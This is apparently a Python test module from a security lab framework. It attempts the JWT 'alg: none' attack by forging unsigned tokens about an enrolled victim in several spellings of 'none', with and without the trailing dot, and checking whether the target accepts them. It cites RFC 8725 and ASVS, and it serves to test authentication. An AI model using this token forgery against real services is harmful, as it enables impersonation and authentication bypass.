"""Send a token that says that it needs no signature.

Exploits a library that believes the header's `alg`, or compares it with `none` in lower case only.
Source: RFC 8725, section 2.1 Weak Signatures and Insufficient Signature Validation,
https://www.rfc-editor.org/rfc/rfc8725#section-2.1
ASVS: 9.1.2
"""

from attacks.lab.attack import attack
from attacks.lab.forge import unsigned
from attacks.lab.outcome import Outcome, judge
from attacks.lab.target import Target

SPELLINGS = ("none", "None", "NONE", "nOnE", "")


@attack(door="token-unchecked")
def run(target: Target) -> Outcome:
    """Write a token about the victim in each spelling, with and without the last dot."""
    victim = target.enrol()
    claims, answers = target.claims_about(victim), {}
    for alg in SPELLINGS:
        token = unsigned(claims, target.forged_header(alg=alg))
        answers[f"alg '{alg}'"] = target.read(f"{token}.")
        answers[f"alg '{alg}', two parts"] = target.read(token)
    return judge(answers)
